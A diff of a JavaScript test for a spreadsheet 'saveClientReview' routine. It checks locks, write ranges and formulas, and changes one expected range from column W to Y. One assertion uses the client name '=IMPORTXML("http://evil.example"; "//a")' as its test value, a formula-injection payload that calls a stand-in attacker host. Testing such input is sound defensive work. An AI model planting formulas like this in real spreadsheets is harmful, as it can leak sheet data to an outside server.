@@ -132,7 +132,7 @@ describe('saveClientReview', () => {
     expect(byMethod['Lock.waitLock']).toBe(1);
     expect(byMethod['Lock.releaseLock']).toBe(1);
     const writes = wb.writes().filter((w) => w.call === 'Range.setValues');
-    expect(writes.map((w) => w.target)).toEqual(['Clients!A14:O14', 'Monitoring!A5:W5']);
+    expect(writes.map((w) => w.target)).toEqual(['Clients!A14:O14', 'Monitoring!A5:Y5']);
     for (const w of writes) expect(w.locks).toContain('document');
     expect(wb.formulas('Clients', '2:2')).toEqual(formulas);
     expect(rowOf(wb, 'Clients', clients, 14).name).toBe('=IMPORTXML("http://evil.example"; "//a")');
